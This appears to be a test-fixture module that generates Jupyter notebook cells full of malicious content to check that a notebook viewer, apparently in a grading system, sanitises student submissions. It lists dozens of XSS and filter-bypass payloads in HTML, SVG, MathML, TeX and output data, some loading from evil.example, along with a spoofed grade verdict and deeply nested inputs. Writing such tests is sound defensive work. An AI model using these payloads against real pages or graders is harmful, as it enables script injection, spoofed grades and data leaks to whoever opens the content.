"""What a student can put into a notebook to harm the person who opens the page.

Each would call ``harmed()``, ask for an address at ``evil.example``, or cover the page.
"""

from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell

HTML = {
    "script": "<script>harmed()</script>",
    "script in capitals": "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "onerror": "<img src=x onerror=harmed()>",
    "onerror with quotes": "<img src='data:image/png;base64,AA' alt='\" onerror=\"harmed()'>",
    "remote picture": "<img src='https://evil.example/pixel.png'>",
    "srcset": "<img srcset='https://evil.example/a.png 1x'><picture><source srcset=//evil.example>",
    "javascript link": "<a id=bait href='java\tscript:harmed()'>click</a>",
    "data link": "<a id=bait href='data:text/html,<script>harmed()</script>'>click</a>",
    "overlay": "<div style='position:fixed;inset:0;background:red;z-index:9999'>You have 46</div>",
    "style": "<style>body{display:none} @import url(https://evil.example/x.css);</style>",
    "class": "<div class='verdict all' id='exercise-softmax'>softmax: 3 of 3 points</div>",
    "svg": "<svg onload=harmed()><script>harmed()</script><a xlink:href='javascript:harmed()'/>",
    "svg style": "<svg></p><style><a title='</style><img src=x onerror=harmed()>'>",
    "mathml": "<math><mtext><table><mglyph><style><img src=x onerror=harmed()></style></table>",
    "math link": "<math href='javascript:harmed()'><mi xlink:href='javascript:harmed()'>x</mi>",
    "maction": "<math><maction actiontype='statusline#x' xlink:href='javascript:harmed()'>x",
    "iframe": "<iframe srcdoc='<script>parent.harmed()</script>'></iframe>",
    "object": "<object data='https://evil.example/x'></object><embed src='https://evil.example/x'>",
    "form": "<form action='https://evil.example'><input autofocus onfocus=harmed()><button>Go",
    "meta": "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "base": "<base href='https://evil.example/'><link rel=stylesheet href='x.css'>",
    "closing": "</pre></div></section></main></body></html><script>harmed()</script>",
    "comment": "<!--><script>harmed()</script>-->",
    "details": "<details open ontoggle=harmed()>x</details>",
    "tag in an attribute": "<a href='https://ok' title='<img src=x onerror=harmed()>'>x</a>",
    "lost picture": "<img alt='x> <img src=x onerror=harmed()>'>",
    "table in an attribute": "<p title='<table>\" onmouseover=harmed() </table>'>x</p>",
    "video": "<video autoplay src='https://evil.example/x' onerror=harmed()></video>",
    "background": "<table background='https://evil.example/x'><td background=//evil.example>",
    "template": "<template><script>harmed()</script></template><noscript><p title='</noscript>"
    "<img src=x onerror=harmed()>'>",
    "textarea": "<textarea>",
    "plaintext": "<plaintext>",
    "xmp": "<xmp><script>harmed()</script>",
    "deep": "<div>" * 2000,
    "deep tables": "<table><tr><td>" * 300 + "x",
    "very deep": "<div>" * 20000,
}
TEX = {
    "text": r"\text{<script>harmed()</script>}",
    "text with picture": r"\text{<img src=x onerror=harmed()>}",
    "href": r"\href{javascript:harmed()}{click}",
    "style": r"\style{position:fixed;inset:0}{x}",
    "class": r"\class{verdict}{x}",
    "color": r"\color{red;background:url(https://evil.example)} x",
    "quote": r"""\textcolor{"onmouseover="harmed()}{x}""",
    "includegraphics": r"\includegraphics{https://evil.example/x.png}",
    "rule": r"\rule{100000em}{100000em}",
    "kern": r"x\kern-99999pt\hspace{-99999em} y",
    "nested": "{" * 900 + "x" + "}" * 900,
    "roots": r"\sqrt" * 390 + " x",
    "exponents": "x^{" * 60 + "}" * 60,
    "fractions": r"\frac{1}{" * 200 + "x" + "}" * 200,
    "tables": r"\begin{matrix}a&" * 60 + r"\end{matrix}" * 60,
    "macro": r"\def\a{\a\a}\a",
    "tag": r"x \tag{<img src=x onerror=harmed()>}",
}
SVG = "<svg xmlns='http://www.w3.org/2000/svg' onload='harmed()'><script>harmed()</script></svg>"
DATA = {
    "html": {"text/html": HTML["onerror"]},
    "javascript": {"application/javascript": "harmed()"},
    "svg": {"image/svg+xml": SVG},
    "svg by another name": {"image/svg+xml": ["<svg onload=harmed()>", 5]},
    "png that is html": {"image/png": '"><script>harmed()</script>'},
    "png that is a number": {"image/png": 5},
    "plain": {"text/plain": "<script>harmed()</script>"},
    "words of a picture": {"image/png": "AAAA", "text/plain": '"><script>harmed()</script>'},
    "markdown": {"text/markdown": "<script>harmed()</script>[x](javascript:harmed())"},
    "latex": {"text/latex": "$" + TEX["text"] + "$"},
    "pdf": {"application/pdf": "AAAA"},
    "widget": {"application/vnd.jupyter.widget-view+json": {"model_id": "<script>harmed()"}},
    "plotly": {"application/vnd.plotly.v1+json": {"x": "<script>harmed()"}},
    "strange": {"text/html": {"a": ["<script>harmed()</script>"]}},
    "half a character": {"text/plain": "\ud800", "text/html": "\udc00<b>x"},
}


def cells():
    """One cell or more for each attempt."""
    for name, text in HTML.items():
        yield new_markdown_cell(f"{name}\n\n{text}\n\nafter")
        yield _showing({"text/html": text})
    for text in TEX.values():
        yield new_markdown_cell(f"${text}$ and\n\n$${text}$$\n\n\\begin{{x}}{text}\\end{{x}}")
    for data in DATA.values():
        yield _showing(data)
    for text in (*HTML.values(), "\x1b[31m<script>harmed()</script>\x1b[0m", "\x00\x1b[999999m"):
        yield new_code_cell(
            text,
            outputs=[
                new_output("stream", name="stderr", text=text),
                new_output("error", ename=text, evalue=text, traceback=[text]),
            ],
        )
        yield new_raw_cell(text)
    attached = new_markdown_cell("![x](attachment:a.png) ![y](attachment:b)")
    attached["attachments"] = {
        "a.png": {"image/png": "AAAA"},
        "b": {"text/html": "PHNjcmlwdD4=", "image/svg+xml": '" onerror=harmed() x="'},
    }
    yield attached


def _showing(data):
    cell, output = new_code_cell("show()"), new_output("display_data")
    output["data"] = data  # as a student's process may send it: nothing checks it
    cell.outputs.append(output)
    return cell
